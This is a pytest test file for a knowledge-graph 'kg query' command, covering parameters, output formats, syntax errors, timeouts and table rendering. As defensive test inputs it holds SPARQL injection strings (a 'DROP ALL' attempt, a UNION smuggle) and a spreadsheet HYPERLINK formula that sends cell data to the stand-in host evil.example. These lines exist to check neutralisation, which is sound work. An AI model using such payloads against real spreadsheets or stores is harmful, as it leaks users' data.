"""``kg query`` and :mod:`kg.storage.query`: query sources, parameters, output formats, syntax errors and
the time limit, on a hand-written store (no model)."""
from __future__ import annotations

import csv
import io
import json
import multiprocessing
import time

import pyoxigraph as ox
import pytest
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import RDFS

import query_fixtures as qf
from kg.cli import main
from kg.errors import QueryError
from kg.storage.formats import write_results
from kg.storage.named import named_queries, resolve_query
from kg.storage.query import run_query, select
from kg.storage.sparql_errors import describe_syntax_error
from kg.storage.stoppable import QueryTimeoutError
from kg.storage.disk import open_store

PEOPLE = "SELECT DISTINCT ?name WHERE { ?p a kg:Person ; rdfs:label ?name } ORDER BY ?name"
NAMES = ["Anna Berg", "Eva Lind", "Karl Ostrow", "Mikkel Paulsen", qf.HOSTILE_NAME]
RUNAWAY = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o }"


@pytest.fixture(scope="module")
def hand(tmp_path_factory):
    return qf.make_store(tmp_path_factory.mktemp("query") / "store")


def kg(capsys, *args):
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


# -- query sources --------------------------------------------------------------------------------

def test_inline_file_and_named_query_give_the_same_rows(hand, tmp_path):
    f = tmp_path / "q.rq"
    f.write_text(named_queries()["positions"].text, encoding="utf-8")
    assert select(hand, "positions") == select(hand, f"@{f}") == select(hand, named_queries()["positions"].text)


def test_unknown_name_lists_the_known_ones():
    with pytest.raises(QueryError, match=r"no named query 'meeting'.*meetings.*kg query --list"):
        resolve_query("meeting")


def test_list_shows_every_named_query_with_its_description(capsys):
    code, out, _ = kg(capsys, "query", "--list")
    assert code == 0
    lines = out.splitlines()
    for q in named_queries().values():
        line = next(l for l in lines if l.split()[0] == q.name)
        assert q.description in line
    assert any(l.split()[:2] == ["actor-profile", "name"] for l in lines)
    assert any(l.split()[:2] == ["meetings", "actor?"] for l in lines)


def test_show_prints_the_query_text(capsys):
    code, out, _ = kg(capsys, "query", "connections", "--show")
    assert code == 0 and out.strip() == named_queries()["connections"].text.strip()


# -- parameters -----------------------------------------------------------------------------------

def test_param_binds_a_string_through_the_cli(hand, capsys):
    code, out, _ = kg(capsys, "query", "quotations", "--store", hand, "--param", "actor=karl ostrow", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["speaker"], r["quote"]) for r in rows] == [("Karl Ostrow", "talks would continue")]


def test_param_in_angle_brackets_binds_an_iri(hand):
    berg = qf.iri("Person", "Anna Berg")
    rows = select(hand, "SELECT ?p ?name WHERE { ?p rdfs:label ?name }", {"p": f"<{berg}>"})
    assert {r["name"] for r in rows} == {"Anna Berg"}
    # the same text as a plain string is a literal, which is no subject
    assert select(hand, "SELECT ?p ?name WHERE { ?p rdfs:label ?name }", {"p": berg}) == []


def test_param_values_are_never_query_text(hand):
    before = len(open_store(hand, read_only=True))
    for value in ['x" } ; DROP ALL ; #', "' || true || '", "?p", "<http://example.org/a> } UNION { ?s ?p ?o"]:
        assert select(hand, "SELECT ?p ?name WHERE { ?p rdfs:label ?name }", {"name": value}) == []
    assert len(open_store(hand, read_only=True)) == before


@pytest.mark.parametrize("args, needle", [
    (["actor-profile"], "needs --param name=VALUE"),
    (["meetings", "--param", "who=x"], "has no parameter 'who' (expected: actor)"),
    (["meetings", "--param", "actor"], "--param 'actor': expected NAME=VALUE"),
    (["SELECT ?p WHERE { ?p rdfs:label ?name }", "--param", "name=Eva Lind"],
     "parameter 'name': the query does not select ?name"),
])
def test_parameter_mistakes_are_one_line_errors(hand, capsys, args, needle):
    code, out, err = kg(capsys, "query", *args, "--store", hand)
    assert code == 1 and out == ""
    assert [l for l in err.splitlines() if needle in l and l.startswith("kg: error: ")], err


# -- output formats -------------------------------------------------------------------------------

def test_csv(hand, capsys):
    code, out, _ = kg(capsys, "query", PEOPLE, "--store", hand, "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [["name"]] + [[n] for n in NAMES]


def test_tsv(hand, capsys):
    code, out, _ = kg(capsys, "query", "positions", "--store", hand, "--format", "tsv", "-p", "actor=Anna Berg")
    assert code == 0
    header, *lines = out.rstrip("\n").split("\n")
    assert header.split("\t")[:5] == ["?person", "?position", "?of", "?first_seen", "?last_seen"]
    assert len(lines) == 1
    cells = lines[0].split("\t")
    assert cells[:3] == ['"Anna Berg"', '"Foreign Minister"', '"Nordland"']
    assert cells[3] == '"2025-03-03"^^<http://www.w3.org/2001/XMLSchema#date>'


def test_sparql_results_json(hand, capsys):
    code, out, _ = kg(capsys, "query", "meetings", "--store", hand, "--format", "json", "-p", "actor=ostrow")
    assert code == 0
    doc = json.loads(out)
    assert doc["head"]["vars"][:3] == ["date", "date_text", "participants"]
    (b,) = doc["results"]["bindings"]
    assert b["date"] == {"type": "literal", "value": "2025-03-03", "datatype": "http://www.w3.org/2001/XMLSchema#date"}
    assert b["places"]["value"] == "Vienna"
    assert b["meeting"]["type"] == "uri"


def test_table_is_aligned_and_counts_rows(hand, capsys):
    code, out, err = kg(capsys, "query", "positions", "--store", hand)
    assert code == 0 and err.startswith("3 rows")
    lines = [l for l in out.splitlines() if l.strip()]
    assert len({len(l) for l in lines}) == 1, "every line of the table has the same width"
    header = next(l for l in lines if "person" in l)
    row = next(l for l in lines if "Eva Lind" in l)
    # the columns line up: each value starts where its header does
    assert row.index("economic adviser") == header.index("position")
    assert row.index("Karl Ostrow") == header.index(" of ") + 1


def test_table_shows_control_characters_visibly(tmp_path, capsys):
    from kg.records import Document, Entity, Extraction
    from kg.rdf.mapping import extraction_to_graph

    st = open_store(tmp_path / "s")
    ex = Extraction(Document("x", "x"), entities=(Entity("a", "Person", "Eve\x1b[31m Red"),))
    st.add_graphs([extraction_to_graph(ex, base=qf.BASE)])
    st.close()
    code, out, _ = kg(capsys, "query", PEOPLE, "--store", tmp_path / "s")
    assert code == 0 and "\x1b" not in out and "Eve\\x1b[31m Red" in out


def test_construct_and_describe_give_turtle(hand, capsys):
    q = "CONSTRUCT { ?a kg:metWith ?b } WHERE { ?a kg:metWith ?b }"
    code, out, _ = kg(capsys, "query", q, "--store", hand, "--format", "json")
    assert code == 0
    g = Graph().parse(data=out, format="turtle")
    berg, ostrow = URIRef(qf.iri("Person", "Anna Berg")), URIRef(qf.iri("Person", "Karl Ostrow"))
    assert set(g) == {(berg, URIRef("https://w3id.org/kg-news/ontology#metWith"), ostrow)}
    code, out, _ = kg(capsys, "query", f"DESCRIBE <{berg}>", "--store", hand)
    g = Graph().parse(data=out, format="turtle")
    assert (berg, RDFS.label, Literal("Anna Berg")) in g


@pytest.mark.parametrize("fmt, expected", [("table", "true"), ("json", '{"head":{},"boolean":true}')])
def test_ask(hand, capsys, fmt, expected):
    code, out, _ = kg(capsys, "query", "ASK { ?p rdfs:label ?n }", "--store", hand, "--format", fmt, "-p", "n=Eva Lind")
    assert code == 0 and out.strip() == expected
    code, out, _ = kg(capsys, "query", "ASK { ?p rdfs:label ?n }", "--store", hand, "-p", "n=Eva")
    assert out.strip() == "false"


def test_unknown_format(hand, capsys):
    code, _, err = kg(capsys, "query", PEOPLE, "--store", hand, "--format", "xml")
    assert code == 1 and "unknown --format 'xml'" in err


# -- syntax errors --------------------------------------------------------------------------------

def test_syntax_error_names_line_and_column(hand, capsys):
    q = "SELECT ?x WHERE {\n  ?x a kg:Person .\n  FILTER( }"
    code, out, err = kg(capsys, "query", q, "--store", hand)
    assert code == 1 and out == ""
    (line,) = [l for l in err.splitlines() if l.startswith("kg: error: ")]
    assert "invalid SPARQL at line 3, column " in line and 'near "FILTER( }"' in line
    assert "expected one of" in line and "'\\u{" not in line  # no character-class noise


def test_describe_syntax_error_without_a_position():
    assert describe_syntax_error("something odd", "ASK {}") == "invalid SPARQL: something odd"


def test_unknown_prefix_is_named():
    st_text = "SELECT ?x WHERE {\n ?x foaf2:name ?n }"
    with pytest.raises(QueryError, match=r"line 2, column \d+.*unknown prefix 'foaf2:'"):
        run_query(_empty_store(), st_text)


def _empty_store():
    from kg.storage.store import KgStore

    return KgStore(ox.Store(), None, False)


# -- the time limit -------------------------------------------------------------------------------

def test_timeout_stops_a_runaway_query_and_its_process(hand):
    t0 = time.monotonic()
    with pytest.raises(QueryTimeoutError, match=r"query stopped after 1 s"):
        run_query(hand, RUNAWAY, timeout=1)
    assert time.monotonic() - t0 < 60
    assert not [p for p in multiprocessing.active_children() if p.name == "kg-query"]


def test_timeout_through_the_cli(hand, capsys):
    code, out, err = kg(capsys, "query", RUNAWAY, "--store", hand, "--timeout", "1")
    assert code == 1 and out == "" and "query stopped after 1 s (--timeout)" in err


def test_results_with_a_time_limit_are_the_same(hand):
    assert select(hand, "meetings", {"actor": "berg"}, timeout=60) == select(hand, "meetings", {"actor": "berg"})
    assert bool(run_query(hand, "ASK { ?p rdfs:label ?n }", {"n": "Eva Lind"}, timeout=60)) is True
    q = "CONSTRUCT { ?a kg:represents ?b } WHERE { ?a kg:represents ?b }"
    assert set(run_query(hand, q, timeout=60)) == set(run_query(hand, q))
    out = io.StringIO()
    write_results(run_query(hand, PEOPLE, timeout=60), "csv", out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name"]] + [[n] for n in NAMES]


def test_errors_from_the_child_process_are_the_same(hand):
    with pytest.raises(QueryError, match=r"invalid SPARQL at line 1, column"):
        run_query(hand, "SELECT ?x WHERE { ?x ?y }", timeout=30)
    with pytest.raises(QueryError, match=r"parameter 'name': the query does not select \?name"):
        run_query(hand, "SELECT ?p WHERE { ?p rdfs:label ?name }", {"name": "x"}, timeout=30)


def test_timeout_must_be_positive(hand):
    with pytest.raises(QueryError, match="timeout 0"):
        run_query(hand, PEOPLE, timeout=0)


# -- set semantics, readable tables ----------------------------------------------------------------

LABELS = "SELECT ?name WHERE { ?p a kg:Person ; rdfs:label ?name } ORDER BY ?name"


def test_union_default_graph_repeats_a_fact_per_article_and_distinct_prints_it_once(hand, capsys):
    # Anna Berg is in both articles: her type and her label each match once per article graph,
    # so she comes 2 x 2 = 4 times; everyone else is in one article
    code, out, err = kg(capsys, "query", LABELS, "--store", hand, "--format", "csv")
    assert code == 0
    names = [r[0] for r in csv.reader(io.StringIO(out))][1:]
    assert names.count("Anna Berg") == 4 and len(names) == len(NAMES) + 3
    code, out, err = kg(capsys, "query", LABELS, "--store", hand, "--format", "csv", "--distinct")
    assert code == 0
    assert [r[0] for r in csv.reader(io.StringIO(out))] == ["name"] + NAMES


def test_table_footer_counts_rows_and_points_to_distinct(hand, capsys):
    code, out, err = kg(capsys, "query", LABELS, "--store", hand)
    assert code == 0
    assert err.startswith(f"{len(NAMES) + 3} rows; 3 repeat an earlier row") and "--distinct" in err
    code, out, err = kg(capsys, "query", LABELS, "--store", hand, "--distinct")
    assert code == 0 and err.startswith(f"{len(NAMES)} rows (3 repeated rows left out by --distinct)")
    code, out, err = kg(capsys, "query", "SELECT ?name WHERE { ?p rdfs:label ?name ; rdfs:label 'Eva Lind' }",
                        "--store", hand)
    assert code == 0 and err == "1 row\n"


def test_table_shows_names_for_iris_and_iris_on_request(hand, capsys):
    q = "SELECT DISTINCT ?p ?article WHERE { ?p a kg:Person ; rdfs:label 'Eva Lind' ; kg:mentionedIn ?article }"
    code, out, _ = kg(capsys, "query", q, "--store", hand)
    assert code == 0
    row = next(line for line in out.splitlines() if "Eva Lind" in line)
    assert "talks-1" in row and "http" not in out  # the person by name, the article by its id
    code, out, _ = kg(capsys, "query", q, "--store", hand, "--iris")
    assert code == 0 and f"{qf.BASE}person/eva-lind" in out


def test_table_cuts_long_values_and_csv_keeps_them(hand, capsys):
    from kg.storage.results import CELL_WIDTH

    q = "SELECT DISTINCT ?sentence WHERE { ?e kg:sentence ?sentence } ORDER BY DESC(STRLEN(?sentence)) LIMIT 1"
    code, out, err = kg(capsys, "query", q, "--store", hand, "--format", "csv")
    (full,) = [r[0] for r in csv.reader(io.StringIO(out))][1:]
    assert len(full) > CELL_WIDTH
    code, out, err = kg(capsys, "query", q, "--store", hand)
    (row,) = [line for line in out.splitlines() if full[:20] in line]
    cell = row.strip("│ ")
    assert cell.endswith("…") and len(cell) == CELL_WIDTH and full.startswith(cell[:-1].rstrip())
    assert "1 long value cut" in err and "--format csv or json" in err


def test_table_leaves_out_columns_that_are_empty_in_every_row(hand, capsys):
    code, out, err = kg(capsys, "query", "positions", "--store", hand)
    header = next(line for line in out.splitlines() if "person" in line)
    assert "holder" in header and "actor" not in header  # the unbound optional parameter
    assert "empty column not shown: actor" in err
    code, out, _ = kg(capsys, "query", "positions", "--store", hand, "--format", "csv")
    assert next(csv.reader(io.StringIO(out)))[-1] == "actor"  # other formats keep every column


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e308", "0", "-1"])
def test_bad_timeouts_are_usage_errors(hand, capsys, value):
    code, out, err = kg(capsys, "query", "ASK {}", "--store", hand, "--timeout", value)
    assert code == 2 and out == ""
    assert len(err.splitlines()) == 1 and err.startswith(f"kg: error: --timeout {float(value):g}:")
    assert "expected a number of seconds above 0" in err


# -- spreadsheet formula injection -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@A1"]


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory):
    from kg.rdf.mapping import extraction_to_graph
    from kg.records import Document, Entity, Extraction

    path = tmp_path_factory.mktemp("formulas") / "store"
    st = open_store(path)
    ents = tuple(Entity(f"e{i}", "Person", name) for i, name in enumerate(FORMULAS))
    st.add_graphs([extraction_to_graph(Extraction(Document("f", "text"), entities=ents), base=qf.BASE)])
    st.close()
    return path


FORMULA_QUERY = "SELECT ?name (-5 AS ?n) WHERE { ?p a kg:Person ; rdfs:label ?name } ORDER BY ?name"


def test_csv_neutralises_formula_cells_but_not_negative_numbers(formula_store, capsys):
    code, out, _ = kg(capsys, "query", FORMULA_QUERY, "--store", formula_store, "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))[1:]
    assert sorted(r[0] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {r[1] for r in rows} == {"-5"}


def test_tsv_neutralises_formula_cells_but_not_negative_numbers(formula_store, capsys):
    code, out, _ = kg(capsys, "query", FORMULA_QUERY, "--store", formula_store, "--format", "tsv")
    assert code == 0
    rows = [line.split("\t") for line in out.rstrip("\n").split("\n")[1:]]
    assert all(r[0].startswith("\"'") and r[0][2:3] in "=+-@" for r in rows) and len(rows) == len(FORMULAS)
    assert {r[1] for r in rows} == {"-5"}


def test_json_keeps_formula_like_values_exact(formula_store, capsys):
    code, out, _ = kg(capsys, "query", FORMULA_QUERY, "--store", formula_store, "--format", "json")
    assert code == 0
    assert sorted(b["name"]["value"] for b in json.loads(out)["results"]["bindings"]) == sorted(FORMULAS)


def test_table_fits_a_120_column_terminal_one_line_per_row():
    # quotations used to wrap two words a line at 120 columns: now each row is one line, the long
    # columns are cut to fit and the short ones (dates, names) keep their width
    from rich.cells import cell_len

    from kg.storage.results import write_table

    long = "We have found common ground on agriculture and on digital trade, and there is more to do " * 2
    rows = [(ox.Literal("Helen Marsh"), ox.Literal(long), ox.Literal("direct"), ox.Literal(long),
             ox.Literal("2025-03-10"), ox.NamedNode("http://example.org/kg/quotation/84fa90b49060ff725984"))] * 3
    out = io.StringIO()
    info = write_table(["speaker", "quote", "kind", "sentence", "date", "quotation"], rows, out, prefixes={},
                       width=120)
    lines = out.getvalue().splitlines()
    assert len(lines) == 3 + 4  # top border, header, rule, three rows, bottom border
    assert max(cell_len(line) for line in lines) <= 120
    row = lines[3]
    assert "Helen Marsh" in row and "2025-03-10" in row and "direct" in row and "…" in row
    assert info.cut >= 6
